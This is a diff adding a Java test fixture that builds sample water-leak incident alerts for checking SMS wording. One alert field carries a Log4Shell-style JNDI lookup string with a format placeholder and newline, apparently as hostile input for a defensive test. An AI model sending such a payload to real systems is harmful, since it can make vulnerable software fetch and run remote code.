@@ -1,0 +1,84 @@
+package io.dripwatch.pipeline.words;
+
+import io.dripwatch.domain.incident.Audience;
+import io.dripwatch.domain.incident.IncidentEvent;
+import io.dripwatch.domain.incident.IncidentTransition;
+import io.dripwatch.domain.incident.IncidentType;
+import io.dripwatch.domain.incident.Severity;
+import io.dripwatch.domain.notification.SmsContent;
+import java.time.Instant;
+import java.util.List;
+import java.util.Map;
+
+/** Alerts for tests of the words. */
+final class Alerts {
+
+    /** 02:15 in the night in Madrid, 08:15 in Shanghai. */
+    static final long ONSET = Instant.parse("2026-11-22T00:15:00Z").toEpochMilli();
+
+    static final long DETECTED = Instant.parse("2026-11-22T12:15:00Z").toEpochMilli();
+
+    private Alerts() {}
+
+    static List<IncidentType> toldTypes() {
+        return SmsContent.TOLD;
+    }
+
+    static IncidentTransition opened(IncidentType type) {
+        return of(type, IncidentEvent.OPENED, Audience.HOUSEHOLD);
+    }
+
+    static IncidentTransition closed(IncidentType type) {
+        return of(type, IncidentEvent.CLOSED, Audience.HOUSEHOLD);
+    }
+
+    static IncidentTransition of(IncidentType type, IncidentEvent event, Audience audience) {
+        return withFlow(type, event, audience, ONSET, 12.4, 148.6);
+    }
+
+    static IncidentTransition ofHome(String householdId) {
+        return alert(
+                householdId,
+                IncidentType.LOW_USE,
+                IncidentEvent.OPENED,
+                Audience.CARER,
+                ONSET,
+                0,
+                0);
+    }
+
+    static IncidentTransition withFlow(
+            IncidentType type,
+            IncidentEvent event,
+            Audience audience,
+            long onset,
+            double litresPerHour,
+            double litres) {
+        return alert("home-1", type, event, audience, onset, litresPerHour, litres);
+    }
+
+    private static IncidentTransition alert(
+            String householdId,
+            IncidentType type,
+            IncidentEvent event,
+            Audience audience,
+            long onset,
+            double litresPerHour,
+            double litres) {
+        return new IncidentTransition(
+                "alert-1",
+                "incident-1",
+                "{0} ${jndi:ldap://x}\n",
+                householdId,
+                type,
+                event,
+                audience,
+                Severity.WARNING,
+                onset,
+                DETECTED,
+                litresPerHour,
+                litres,
+                Map.of(),
+                Map.of());
+    }
+}
